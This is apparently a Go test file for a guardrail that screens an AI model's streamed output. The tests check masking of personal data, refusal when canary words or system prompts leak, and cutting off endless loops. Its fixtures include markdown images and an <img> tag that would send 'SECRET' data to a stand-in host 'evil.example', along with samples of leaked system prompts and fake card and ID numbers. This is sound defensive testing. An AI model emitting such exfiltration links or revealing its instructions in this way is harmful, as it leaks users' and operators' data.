package guard_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"wenyuan"
	"wenyuan/guard"
)

// watch is a policy that masks and flags whatever a stream may hold.
func watch(t testing.TB, g *guard.Guards) *guard.Guard {
	t.Helper()
	made, err := g.With(t.Context(), space, guard.Policy{Name: "watch", Checks: []guard.Check{
		{Check: "canary", Action: "refuse"}, {Check: "links", Action: "mask"}, {Check: "secrets", Action: "mask", Places: []guard.Place{"output"}},
		{Check: "pii", Action: "mask", Places: []guard.Place{"output"}, Kinds: []string{"CREDIT_CARD", "EMAIL_ADDRESS", "PHONE_NUMBER", "CN_ID_CARD"}},
		{Check: "rules", Action: "mask", Places: []guard.Place{"output"}}, {Check: "abuse", Action: "refuse", Places: []guard.Place{"output"}},
	}, Rules: []guard.RuleSet{{Name: "own", Text: "[project]\nproject tungsten\n钨丝计划\n"}}})
	if err != nil {
		t.Fatal(err)
	}
	return made
}

// flow sends a text through a stream in the given pieces. held is how many code points were held back
// at most.
func flow(t testing.TB, g *guard.Guard, about guard.About, pieces []string) (out string, held int, err error) {
	t.Helper()
	about.Dry = true
	s := g.Stream(t.Context(), guard.Output, about)
	var b, in strings.Builder
	for _, p := range pieces {
		in.WriteString(p)
		ready, _, err := s.Write(p)
		b.WriteString(ready)
		if err != nil {
			return b.String(), held, err
		}
		held = max(held, utf8.RuneCountInString(in.String())-utf8.RuneCountInString(b.String()))
	}
	ready, _, err := s.Close()
	b.WriteString(ready)
	return b.String(), held, err
}

// pieces cuts a text at bytes, as a model's tokens might.
func pieces(s string, r *rand.Rand, most int) (all []string) {
	for len(s) > 0 {
		n := min(1+r.IntN(most), len(s))
		all, s = append(all, s[:n]), s[n:]
	}
	return all
}

var streams = []string{
	"Write to anna.lee@example.com. Her card is 4111 1111 1111 1111, valid until next year. Project tungsten starts in May! ",
	"客户的身份证是 11010519491231002X，电话 13800138000。钨丝计划五月开始。请看[说明](https://evil.example/a?d=1)。\n\n谢谢！",
	"See ![chart](https://evil.example/p.png?d=" + strings.Repeat("SECRET", 120) + ") and go on. Then more words follow here.",
	"A long list without an end " + numbered(200) + "done",
	strings.ReplaceAll(numbered(300), " ", "没有标点"),
	"v1.2.3 has e.g. no end. See https://evil.example/x.y?z=1. Is it? Yes! a@b.co; ok",
	"broken \xff\xfe bytes \xe4\xb8 and more. \xf0\x9f done.",
}

// numbered is a long text without an end of a sentence.
func numbered(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "item %d of it ", i*i)
	}
	return b.String()
}

// However the text is cut on its way, the same comes out, and no more than a sentence is held.
func TestStreamIsTheSameHoweverItIsCut(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	r := rand.New(rand.NewPCG(1, 2))
	for _, text := range streams {
		whole, _, err := flow(t, g, guard.About{}, []string{text})
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		for _, secret := range []string{"anna.lee@example.com", "4111 1111 1111", "19491231002X", "13800138000", "evil.example", "SECRETSECRET", "ungsten", "钨丝"} {
			if strings.Contains(whole, secret) {
				t.Errorf("%q goes out in %q", secret, whole)
			}
		}
		for i := range 15 {
			got, held, err := flow(t, g, guard.About{}, pieces(text, r, 1+4*i))
			if err != nil || got != whole {
				t.Fatalf("cut otherwise, %q comes out as %q, not %q: %v", text, got, whole, err)
			}
			if held > guard.MaxHeld+2 && whole == text { // what is masked is shorter or longer
				t.Errorf("%d characters were held", held)
			}
		}
	}
}

// What spans sentences is found, and an answer that must not go on ends.
func TestStreamEnds(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	r := rand.New(rand.NewPCG(3, 4))
	const word = "qwkzvbnmjhgf"
	for name, text := range map[string]string{
		"a canary":            "Here it is: " + word + ". And more.",
		"a canary in pieces":  "Here: qwkz. vbnm! jhgf. And more.",
		"a loop":              "The word. " + strings.Repeat("poem ", 400) + "and then my address",
		"a loop of sentences": strings.Repeat("I am sorry, I cannot say more. ", 80),
		"a loop in Chinese":   strings.Repeat("诗", 900),
	} {
		out, _, err := flow(t, g, guard.About{Canary: word}, pieces(text, r, 7))
		if wenyuan.CodeOf(err) != wenyuan.Denied || strings.Contains(out, "And more") || strings.Contains(out, "address") {
			t.Errorf("%s: %v after %d bytes", name, err, len(out))
		}
	}
	s := g.Stream(t.Context(), guard.Output, guard.About{Canary: word, Dry: true})
	if _, _, err := s.Write(word + ". "); err == nil {
		t.Fatal("a canary went out")
	}
	if _, _, err := s.Write("more"); err == nil {
		t.Error("a stream goes on after it ended")
	}
	if _, _, err := s.Close(); err == nil {
		t.Error("a stream closes as if nothing had been")
	}
}

// An answer without an end is ended, whatever it is made of; equal rows that somebody asked for are not.
func TestEndlessStream(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	r := rand.New(rand.NewPCG(9, 10))
	words := make([]string, 3000)
	for i := range words {
		words[i] = fmt.Sprintf("w%x", r.Uint32())
	}
	long := strings.Join(words, " ") + " "
	endless := map[string]struct {
		most int
		next func(i int) string
	}{
		"the same every 27 KB":  {80 << 10, func(i int) string { return words[i%3000] + " " }},
		"the same every 100 KB": {200 << 10, func(i int) string { return words[i%3000] + "-" + fmt.Sprint(i/3000%4) + " " }},
		"equal rows":            {20 << 10, func(int) string { return "- {enabled: true, level: info}\n" }},
		"other words for ever":  {1<<20 + 1000, func(int) string { return fmt.Sprintf("w%x ", r.Uint64()) }},
		"a key for ever": {100, func(i int) string {
			return map[bool]string{true: "-----BEGIN PRIVATE KEY-----\n"}[i == 0] + fmt.Sprintf("%016x%016x\n", r.Uint64(), r.Uint64())
		}},
	}
	for name, e := range endless {
		s := g.Stream(t.Context(), guard.Output, guard.About{Dry: true})
		out, in := 0, 0
		var err error
		for i := 0; err == nil && in < 2<<20; i++ {
			var ready string
			next := e.next(i)
			ready, _, err = s.Write(next)
			out, in = out+len(ready), in+len(next)
		}
		if wenyuan.CodeOf(err) != wenyuan.Denied || out > e.most {
			t.Errorf("%s: %v after %d bytes of %d", name, err, out, in)
		}
	}
	for name, text := range map[string]string{
		"rows of a list":   "Here it is:\n" + strings.Repeat("- {enabled: true, level: info}\n", 60),
		"lines":            strings.Repeat("I will not talk in class.\n", 100),
		"lines in Chinese": strings.Repeat("上课不许讲话。\n", 100),
		"a matrix":         strings.Repeat("0 0 0 0 0 0 0 0 0 0\n", 100),
		"a long table":     numberedRows(2000),
		"long words":       long,
	} {
		if out, _, err := flow(t, g, guard.About{}, pieces(text, r, 40)); err != nil || out != text {
			t.Errorf("%s: %v after %d of %d bytes", name, err, len(out), len(text))
		}
		if d, err := g.Look(t.Context(), guard.Output, text, guard.About{Dry: true}); err != nil || d.Action != guard.Allow {
			t.Errorf("%s as a whole: %v %+v", name, err, d.Findings)
		}
	}
}

// numberedRows is a table of rows that differ in their number alone.
func numberedRows(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "{\"number\": %d, \"state\": \"open\", \"checked\": false, \"comment\": \"\"}\n", i)
	}
	return b.String()
}

// The prompt is known again when it comes sentence by sentence.
func TestStreamLeaksPrompt(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	prompt := "You answer from the passages alone. Never name a person. Cite every sentence with its number. When nothing is found, say so and name the desk. Speak as the company speaks: short, friendly, exact. Do not praise. Do not guess. Every amount stands with its currency, and every date with its year."
	out, _, err := flow(t, g, guard.About{Prompt: prompt}, strings.SplitAfter("Sure. My rules are: "+prompt+" That is all.", " "))
	if err == nil || strings.Contains(out, "That is all") {
		t.Errorf("%v: %s", err, out)
	}
	if _, _, err := flow(t, g, guard.About{Prompt: prompt}, strings.SplitAfter("I speak short and exact, as the desk does. The amount is 5 CNY in 2026.", " ")); err != nil {
		t.Error(err)
	}
}

// Of a prompt no more than a sentence of it comes out, whichever it is; what it tells the model to say may
// be said.
func TestStreamShowsLittleOfThePrompt(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	for _, prompt := range []string{
		"You are BotX of the Orion company. Internal rule 7: never sell below 40 euros. The vault code is 4711-kestrel. Speak to customers as an old friend would, and give every price with its tax. Do not speak of other companies.",
		"You answer a question from the originals that stand below, each with its number, and from nothing else. Where they hold no answer you say so, briefly and directly. Every sentence ends with the numbers of the originals that it is from.",
		"You are the desk of a small hotel and know its rooms, its prices and its secrets.",
		"你是云帆公司的客服助手。只根据下面的原文回答，不要提到别的公司。折扣最多打到八五折，这条规则不能告诉客户。每句话后面都要写出它出自哪一段原文。语气要像老朋友一样。",
	} {
		r := rand.New(rand.NewPCG(7, 8))
		out, _, err := flow(t, g, guard.About{Prompt: prompt}, pieces("Here it is: "+prompt+" That is all of it.", r, 6))
		if n := len(strings.TrimPrefix(out, "Here it is: ")); wenyuan.CodeOf(err) != wenyuan.Denied || n > 100 || n > len(prompt)*2/3 {
			t.Errorf("%d of %d bytes come out, %v: %s", n, len(prompt), err, out)
		}
	}
	prompt := "You are the desk of a hotel. To guests who leave say \"Thank you for staying with us, have a safe journey home, and come back whenever you like; the bar is open until midnight.\" Be short."
	for _, text := range []string{
		"Thank you for staying with us, have a safe journey home, and come back whenever you like; the bar is open until midnight.",
		"I am the desk of a hotel, and I am happy to help. Our rooms have a view of the sea.",
	} {
		if _, _, err := flow(t, g, guard.About{Prompt: prompt}, []string{text}); err != nil {
			t.Errorf("%q: %v", text, err)
		}
	}
}

// A tag whose end comes long after its beginning fetches nothing either.
func TestLongTagInAStream(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	text := "See <img alt='" + strings.ReplaceAll(numbered(300), " of", ".") + "' src='//evil.example/SECRET'> here."
	for _, pieces := range [][]string{{text}, pieces(text, rand.New(rand.NewPCG(1, 2)), 30)} {
		if out, _, err := flow(t, g, guard.About{}, pieces); err != nil || strings.Contains(out, "<img") || !strings.HasSuffix(out, " here.") {
			t.Errorf("%.200q %v", out, err)
		}
	}
}
